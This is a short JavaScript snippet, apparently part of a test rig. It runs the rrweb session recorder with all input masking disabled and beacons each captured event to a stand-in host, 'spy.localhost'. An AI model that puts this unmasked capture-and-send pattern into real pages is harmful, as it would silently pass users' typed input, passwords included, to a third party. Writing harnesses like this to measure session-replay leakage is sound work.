// rrweb's recorder, with nothing masked and nothing left out. What it emits is kept.
(() => {
  const kept = ((window.__captured ??= {}).rrweb = []);
  rrweb.record({
    emit: (event) => {
      const text = JSON.stringify(event);
      kept.push(text);
      // What comes after the rig has read is lost with the page, unless it is sent.
      if (window.__leaves) navigator.sendBeacon(`https://spy.localhost:${location.port}/rrweb`, text);
    },
    maskAllInputs: false,
    maskInputOptions: {},
    slimDOMOptions: {},
    inlineStylesheet: true,
    recordCanvas: false,
    recordCrossOriginIframes: true,
    collectFonts: true,
    userTriggeredOnInput: true,
    sampling: { mousemove: 20, mousemoveCallback: 100, mouseInteraction: true, scroll: 50, media: 100, input: 'all' },
  });
})();
